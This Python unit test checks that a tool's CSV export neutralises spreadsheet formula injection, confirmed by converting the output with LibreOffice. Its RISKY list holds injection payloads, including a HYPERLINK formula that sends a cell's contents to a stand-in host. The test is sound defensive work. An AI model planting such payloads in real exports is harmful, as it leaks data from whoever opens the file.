"""An exported table in a spreadsheet: nothing in it is computed (LibreOffice, if it is there)."""

import json
import shutil
import sqlite3
import subprocess
import unittest

import station

# What a spreadsheet takes for a formula, each beside what is harmless.
RISKY = ["=1+2", "+SUM(1;2)", "-1+2", "@SUM(1;2)", "\t=1+2", "\r=1+2",
         '=HYPERLINK("http://port-ansel.example/?"&A1;"=2*3")', "'=1+2"]


@unittest.skipUnless(shutil.which("soffice"), "there is no LibreOffice")
class Spreadsheet(station.WithFolder):
    def formulas(self, name):
        """How many cells of the table a spreadsheet holds for formulas."""
        home = "-env:UserInstallation=file://" + self.path("office")
        subprocess.run(["soffice", home, "--headless", "--convert-to", "fods", "--outdir",
                        self.folder, self.path(name + ".csv")], check=True, capture_output=True,
                       timeout=240)
        with open(self.path(name + ".fods"), encoding="utf-8") as file:
            return file.read().count("table:formula=")

    def rack(self):
        """A garment for each, of a maker whose name somebody wrote into the database so."""
        database = self.path("rack.db")
        table = "number,maker\n" + "".join(f"{1301 + i},marlock\n" for i in range(len(RISKY)))
        station.lapel("import", self.write("rack.csv", table), "--db", database)
        with sqlite3.connect(database) as connection:
            connection.execute("DROP TRIGGER entry_stays")
            for item, maker in enumerate(RISKY, 1):
                said = json.dumps({"type": "maker", "name": maker})
                connection.execute("UPDATE entry SET name = ?, said = ? WHERE item = ? AND"
                                   " type = 'maker'", (maker, said, item))
        return database

    def test_nothing_is_computed(self):
        table = station.lapel("export", "--db", self.rack(), "--as", "csv").stdout
        self.assertIn("'=1+2", table)
        self.write("harmless.csv", table)
        self.assertEqual(0, self.formulas("harmless"))
        # Without the sign before them they would be: the spreadsheet does look.
        self.write("risky.csv", "maker\n" + RISKY[0] + "\n")
        self.assertEqual(1, self.formulas("risky"))


if __name__ == "__main__":
    unittest.main()
